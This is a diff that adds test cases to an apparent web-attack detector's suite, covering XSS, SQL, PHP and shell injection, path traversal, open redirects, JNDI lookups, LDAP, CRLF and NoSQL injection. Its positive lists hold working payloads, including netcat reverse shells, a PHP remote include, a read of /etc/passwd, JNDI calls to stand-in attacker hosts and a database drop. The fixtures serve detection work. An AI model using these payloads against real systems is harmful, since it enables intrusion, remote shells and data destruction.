@@ -731,3 +731,83 @@ t.test("sqli (tenth round): Oracle's block around a delay", async (t) => {
   for (const p of ['1));begin dbms_lock.sleep(5); end--', ';BEGIN USER_LOCK.SLEEP(5); END']) t.ok(q(p).includes('sqli'), p)
   for (const p of ['begin dbms_lock', 'begin; the work; end']) t.notOk(q(p).includes('sqli'), p)
 })
+
+t.test('xss (eleventh round): a property named by strings that spell a script sink, called or walked', async (t) => {
+  for (const p of ["top['al'+k+'rt'](1)", "window[['a'][0] + 'lert'](1337)", "self[/*foo*/'alert'/*bar*/](self['document']['domain'])", "';parent['ale'+'rt'](parent['doc'+'ument']['dom'+'ain']);//", "(this)[new Array+('eva')+new Array+ 'l'](name)", "[]['constructor']['constructor']('alert(1)')()", 'this[x+`ert`](1)']) t.ok(q(p).includes('xss'), p)
+  // a handler's name put together, a tag manager's call, a sink's name not called, a dictionary lookup
+  for (const p of ["x = this['on' + type](e)", "x = window['gtag']('config')", "x = top['al' + 'rt'].length", "const v = map['pro' + 'ps'](k)", "x = obj['a' + 'b'](1)"]) t.notOk(q(p).includes('xss'), p)
+})
+
+t.test('rce (eleventh round): PHP code injected, judged as PHP statements', async (t) => {
+  for (const p of ["<?php system('id'); ?>", '<?=`{${~"\\xa0\\xb8\\xba\\xab"}["\\xa0"]}`;', '"; $_a=(! \'a\') . "php"; $_a.=(! \'a\') . "info"; $_a(1); $b="', '; e|$a=&$_GET; 0|$b=!a .$a[b];$a[a](`$b`);//', '; include "http://evilsite.com/evilcode"', ';echo file_get_contents(implode(DIRECTORY_SEPARATOR, array("usr")))', "a;exit(md5('w4p1t1_md5'));//", '$file = fopen("pshell.php", "w"); echo fwrite($file, "x"); fclose($file)', 'data:;base64,PD9waHAgZWNobyAndzRwMXQxJywnX2V2YWwnOyA/Pg==']) t.ok(q(p).includes('rce'), p)
+  // a template including its header, a variable function in code, a Python copy, a log file opened, a local include
+  for (const p of ["<?php include('header.php'); ?>", '<?php echo $title; ?>', '$x = 1; $f($x);', "shutil.copy('a', 'b')", '$fp = fopen("log.txt", "w");', "; include 'footer.php'", 'a; b = c; d(e)']) t.notOk(q(p).includes('rce'), p)
+})
+
+t.test('rce (eleventh round): a program by its path in a system directory, a ping given a count or an interval', async (t) => {
+  for (const p of ['/bin/ls -al', '/usr/bin/id', '/usr/bin/id;', '/usr/bin/id|', '/bin/cat /etc/passwd;', 'ping -i 30 127.0.0.1', 'ping.exe -n 31 127.0.0.1', 'ping -c 3 10.0.0.1']) t.ok(q(p).includes('rce'), p)
+  // a login shell or an interpreter's path alone (a setting), a ping of a host named in a search, a plain ping
+  for (const p of ['/bin/bash', '/usr/bin/python3', '/usr/local/bin/node', '/usr/bin/env', 'ping google.com', 'ping 127.0.0.1', 'ping -c 3 my router']) t.notOk(q(p).includes('rce'), p)
+  t.notOk(detector.detect({ ...base, path: '/bin/ls' }).includes('rce'), 'a path segment without a blank')
+})
+
+t.test('path traversal (eleventh round): a value that is only climbing, in any encoding', async (t) => {
+  for (const p of ['../', '..\\', '/../', '../../', '..%2f..%2f', '%c0%ae%c0%ae/', '/%c0%ae%c0%ae/%c0%ae%c0%ae/']) t.ok(q(p, 'x').includes('path_traversal'), p)
+  // a relative path naming a file, dots alone, an ellipsis, a configuration's own climb
+  for (const p of ['../avatar.jpg', '..', '...', 'see ../ above']) t.notOk(q(p, 'x').includes('path_traversal'), p)
+  t.same(json({ name: 'a', version: '1.0.0', description: 'x', main: 'index.js', license: 'MIT', author: 'y', homepage: 'z', repository: 'r', bugs: 'b', keywords: 'k', files: 'f', path: '../../' }), [], "a configuration's own climb")
+})
+
+t.test('a query string given as a value (eleventh round): each value judged under its own name', async (t) => {
+  for (const [p, c] of [['submit_show=true&do=import&docpath=../', 'path_traversal'], ['files=../../&filter=.*&submit=Go', 'path_traversal'], ["username=a&email=a'),('b','c',(select flag from flag limit 1))-- -", 'sqli']] as const) t.ok(q(p).includes(c), p)
+  // tracking parameters, a form's plain fields, a return path, a code line that starts like an assignment
+  for (const p of ['utm_source=news&utm_medium=email&utm_campaign=winter', 'name=Ann&city=Paris&note=see+you', 'next=/account&tab=2', 'name=foodforthought.jpg\necho ${name##*fo}\n']) t.same(q(p), [], p)
+})
+
+t.test('xss (eleventh round): the Function constructor reached from any object, sinks in punctuation, tags glued inside words', async (t) => {
+  for (const p of ['Set.constructor`alert(14)```;', "a='constructor';b={};a.sub.call.call(b[a].getOwnPropertyDescriptor(b[a].getPrototypeOf(a.sub),a).value,0,'alert(165)')()", '[].constructor.from([1],alert)', '(alert())', ',alert(0),', 'href onerRor=((prompt))`xss1`id=', '"; ||confirm(\'XSS\') || "', '"])},alert(1));(function xss() {//', '"o<x>nmouseover=alert<x>(1)//', '"autof<x>ocus o<x>nfocus=alert<x>(1)//']) t.ok(q(p).includes('xss'), p)
+  for (const p of ['Foo.prototype.constructor = Foo', 'constructor.prototype.x === 1', '(alert me later)', 'List<String>foo; Map<K>v(', 'a<b>c</b>d', "x.constructor('a')"]) t.notOk(q(p).includes('xss'), p)
+})
+
+t.test('sqli (eleventh round): a stored routine called after a separator, a conditional on numbers compared, the whole catalog', async (t) => {
+  for (const p of ['1;call regexp_substring(repeat(right(char(3702),0),500000000),null)', ';CALL REGEXP_SUBSTRING(REPEAT(RIGHT(CHAR(4821),0),500000000),NULL)', '1%"));iif(7011=2522,1,1/0)', '1));iif(1305=5656,1,1/0)', "1',(select (case when (6894=6087) then 1 else 6894*(select 6894 from information_schema.character_sets) end))"]) t.ok(q(p).includes('sqli'), p)
+  // prose calling someone, a routine without a system's name, a spreadsheet's IIF typed as a formula
+  for (const p of ['ok; call mom (later)', 'then; call foo(x)', '=IIF(A1>3, "big", "small")', 'the information_schema.foo docs']) t.notOk(q(p).includes('sqli'), p)
+})
+
+t.test('xss (eleventh round): a page read with its high bit dropped, JavaScript octal escapes', async (t) => {
+  for (const p of ['¼script ¾alert(1)//¼/script ¾', '¼script¾alert(¢42¢)¼/script¾', '(()=>{})["\\143\\157\\156\\163\\164\\162\\165\\143\\164\\157\\162"]("\\141\\154\\145\\162\\164()")()']) t.ok(q(p).includes('xss'), p)
+  // a recipe's fractions, octal escapes that spell no script, a Windows path with digits
+  for (const p of ['1¼ cup onion½ and ¾ tsp salt', '¼ of the ¾ left', 'printf("\\101\\102\\103")', 'C:\\100\\200\\300']) t.notOk(q(p).includes('xss'), p)
+})
+
+t.test("rce (eleventh round): the SQLite shell's dot commands, other shells given -c", async (t) => {
+  for (const p of [';\\n.system nc 10.10.10.1 6666 -e sh\\n', "1;.'shell whoami", '";\n. shell nc 10.10.10.1 6666 -e sh', 'zsh -c id', 'ksh -c whoami']) t.ok(q(p).includes('rce'), p)
+  for (const p of ['use the .shell command', 'foo\n  .system(x)', 'zsh is my shell', 'the .system file']) t.notOk(q(p).includes('rce'), p)
+})
+
+t.test('open redirects (eleventh round): a URL behind a prefix a check reads as a path', async (t) => {
+  for (const p of ['x00http://google.com', '\u0000http://evil.example', 'hthttp://tp://google.com', '%00http://canarytokens.com/x']) t.ok(q(p, 'next').includes('open_redirect'), JSON.stringify(p))
+  // a plain URL (decided), one with a leading blank, the site's own host behind a prefix, an app's own scheme
+  for (const p of ['http://google.com', ' http://google.com', 'xhttp://shop.example.com/a', 'myapp://callback', 'abchttp:/x']) t.notOk(q(p, 'next').includes('open_redirect'), p)
+  t.notOk(q('x00http://google.com', 'q').includes('open_redirect'), 'under no redirect parameter')
+})
+
+t.test('jndi (eleventh round): lookups that reach the network or run a script by themselves, a base64 lookup', async (t) => {
+  for (const p of ['${url:UTF-8::https://c7f3k2.attacker.example.net/}', '${dns:address|c7f3k2.attacker.example.net}', '${script:javascript:java.lang.Runtime.getRuntime().exec("id")}', '${ldap://10.10.14.10:1389/generated}', '${jn${base64:ZGk=}:ldap://x}']) t.ok(q(p).includes('jndi'), p)
+  // placeholders and lookups that read nothing remote
+  for (const p of ['${url}', '${dns}', 'Hello ${name}', '${base64:aGVsbG8=}', '${env:HOME}']) t.notOk(q(p).includes('jndi'), p)
+})
+
+t.test('ldapi and crlf (eleventh round): the absolute filters, a carriage return spelt U+560D', async (t) => {
+  for (const p of ['(&)', '(|)', '(|(&)(userPassword=pwd))']) t.ok(q(p).includes('ldapi'), p)
+  for (const p of ['Tom (&) Jerry', 'a (|) b', 'f(&x)']) t.notOk(q(p).includes('ldapi'), p)
+  t.ok(q('\u560dSet-cookie:crlf=injection', 'next').includes('crlf'), 'U+560D before a header')
+  t.notOk(q('a\u560db', 'next').includes('crlf'), 'U+560D in text')
+})
+
+t.test("nosqli (eleventh round): the database's own administrative methods, a function spliced into a string and called on the document", async (t) => {
+  for (const p of ['}); db.dropDatabase();', 'db.runCommand({shutdown: 1})', "admin'+function(x){if(x.password[0]===\"a\"){sleep(5000)};}(this)+'"]) t.ok(q(p).includes('nosqli'), p)
+  // a script reading a collection, prose about a method, a function in code not called on `this`
+  for (const p of ["db.getCollection('users').count()", 'use db.dropDatabase with care', "const f = 'a' + function (x) { return x }"]) t.notOk(q(p).includes('nosqli'), p)
+})
